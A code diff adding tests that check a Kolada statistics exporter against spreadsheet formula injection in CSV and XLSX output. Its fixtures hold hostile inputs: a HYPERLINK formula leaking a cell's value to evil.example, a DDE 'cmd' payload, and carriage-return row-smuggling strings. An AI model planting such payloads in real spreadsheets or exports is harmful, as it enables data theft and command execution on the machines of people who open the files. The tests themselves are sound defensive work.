@@ -1,3 +1,4 @@
+import csv
 import io
 import json
 import struct
@@ -81,3 +82,85 @@ def test_bundle_contents(chart):
     assert "Egen bearbetning" in meta["terms"]
     data = pd.read_excel(io.BytesIO(z.read("nka-1267-ifo.xlsx")), sheet_name="Data")
     assert len(data) == len(DATA)
+
+
+# ---- formula injection: text from Kolada is never a formula in a spreadsheet -----------------
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
+CRAFTED = pd.DataFrame(
+    {
+        "Kommun": [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "Höör", None],
+        "Kommun-id": ["0561", "1267", "1266", "0780", "0128", "2523", "1267", "2031"],
+        "NKA (%)": [-20.7972, 1.5, -3.25, 0.0, 2.0, -1.0, 4.0, float("nan")],
+        "Plats": [1, 2, 3, 4, 5, 6, 7, 8],
+    }
+)
+CRAFTED_INFO = exports.ExportInfo(
+    name="x",
+    title=HYPERLINK,
+    subtitle="=1+1 · Individ- och familjeomsorg",
+    source="Källa: Kolada",
+    members=[("0561", "=cmd|' /C calc'!A0")],
+    group="+Liknande kommuner",
+    formulas=["http://evil.example/leak"],  # would be a link with xlsxwriter's defaults
+)
+
+
+def csv_rows(data: pd.DataFrame) -> list[list[str]]:
+    """The CSV as a spreadsheet reads it (semicolons, quoted fields may hold line breaks)."""
+    text = exports.to_csv(data).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def test_csv_fields_that_would_be_formulas_are_text():
+    rows = csv_rows(CRAFTED)
+    assert len(rows) == len(CRAFTED) + 1  # a CR inside a field does not start a row
+    names = [r[0] for r in rows[1:]]
+    assert names == ["'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "Höör", ""]
+    assert [r[2] for r in rows[1:4]] == ["-20,7972", "1,5", "-3,25"]  # numbers stay numbers
+    assert [r[3] for r in rows[1:3]] == ["1", "2"]
+
+
+def test_csv_a_carriage_return_cannot_start_a_row_with_a_formula():
+    rows = csv_rows(pd.DataFrame({"Kommun": ['Höör\r=HYPERLINK("http://evil.example")']}))
+    assert rows == [["Kommun"], ['Höör\r=HYPERLINK("http://evil.example")']]
+
+
+def test_csv_header_that_would_be_a_formula_is_text():
+    assert csv_rows(pd.DataFrame({"=1+1": [1.0]}))[0] == ["'=1+1"]
+
+
+def test_xlsx_has_no_formula_and_numbers_stay_numbers():
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(CRAFTED, CRAFTED_INFO)))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert cells and all(c.data_type != "f" for c in cells)
+    data = book["Data"]
+    assert data["A2"].value == "'" + HYPERLINK and data["A2"].data_type == "s"
+    assert [data[f"A{i}"].value for i in range(3, 6)] == ["'+1+1", "'-2+3", "'@SUM(A1)"]
+    assert data["C2"].value == -20.7972 and data["C2"].data_type == "n"
+    assert data["D2"].value == 1 and data["D2"].data_type == "n"
+    meta = {r[0].value: r[1].value for r in book["Metadata"].iter_rows(min_row=2)}
+    assert meta["Titel"] == "'" + HYPERLINK
+    assert meta["Urval"] == "'=1+1 · Individ- och familjeomsorg"
+    assert meta["Jämförelsegrupp"] == "'+Liknande kommuner"
+    assert meta["Jämförelsekommuner"] == "=cmd|' /C calc'!A0 (0561)".replace("=", "'=", 1)
+    assert not any(isinstance(v, str) and v.startswith("=") for v in meta.values())
+
+
+def test_xlsx_has_no_hyperlinks():
+    z = zipfile.ZipFile(io.BytesIO(exports.to_xlsx(CRAFTED, CRAFTED_INFO)))
+    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any(b"<f>" in z.read(n) or b"hyperlink" in z.read(n) for n in sheets)
+
+
+def test_bundle_csv_and_xlsx_are_safe_too(chart):
+    z = zipfile.ZipFile(io.BytesIO(exports.bundle(chart, DATA.assign(Kommun=HYPERLINK), INFO)))
+    assert "'=HYPERLINK(" in z.read("nka-1267-ifo.csv").decode("utf-8-sig")
+    data = pd.read_excel(io.BytesIO(z.read("nka-1267-ifo.xlsx")), sheet_name="Data")
+    assert data["Kommun"].iloc[0] == "'" + HYPERLINK
+    assert data["Höör"].tolist() == DATA["Höör"].tolist()
+
+
+def test_the_plain_export_is_unchanged():
+    assert exports.spreadsheet_safe(DATA).equals(DATA)
